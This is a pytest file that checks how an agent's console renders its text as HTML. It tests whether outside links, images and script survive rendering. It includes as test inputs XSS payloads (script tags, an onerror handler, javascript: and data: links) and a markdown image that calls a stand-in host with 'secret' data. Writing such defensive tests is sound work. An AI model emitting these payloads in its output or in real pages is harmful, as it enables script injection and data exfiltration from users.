"""The agent's text cannot bring anything into a page but words, tables and links within the console."""

import re

import pytest

from agent.rendering import as_html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "![x](/static/x.png)",
        "[go](javascript:alert(1))",
        "[go](//evil.example/)",
        "[go](/\\evil.example/)",
        "[go](https://evil.example/steal)",
        "<https://evil.example/>",
        '[go](data:text/html,"x")',
    ],
)
def test_nothing_leads_out_or_loads(text):
    assert not re.search(r'<(script|img)|href="(?!/[^/\\\\])', as_html(text))


def test_an_outside_link_becomes_its_text_and_host():
    assert as_html("[our bank](https://bank.example/x)") == "<p>our bank (bank.example)</p>\n"


def test_a_link_to_a_page_of_ours_stays():
    assert '<a href="/invoices/12/">7KQ2M9XTRB-3</a>' in as_html("[7KQ2M9XTRB-3](/invoices/12/)")


def test_a_table_stays_a_table():
    assert "<td>b</td>" in as_html("| x |\n|---|\n| b |")
